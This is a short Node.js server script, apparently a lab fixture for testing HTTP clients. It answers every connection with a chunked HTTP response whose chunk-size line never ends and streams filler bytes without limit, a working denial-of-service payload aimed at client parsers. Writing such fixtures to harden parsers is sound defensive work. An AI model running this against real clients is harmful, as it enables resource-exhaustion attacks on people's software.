// exploit: hangs a line without end on the size of a chunk
// kind: lab
// exchange: not-http
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;name=')
  const more = () => { while (!socket.destroyed && socket.write('x'.repeat(10_000))) continue }
  socket.on('drain', more)
  more()
}).listen(process.env.PORT)
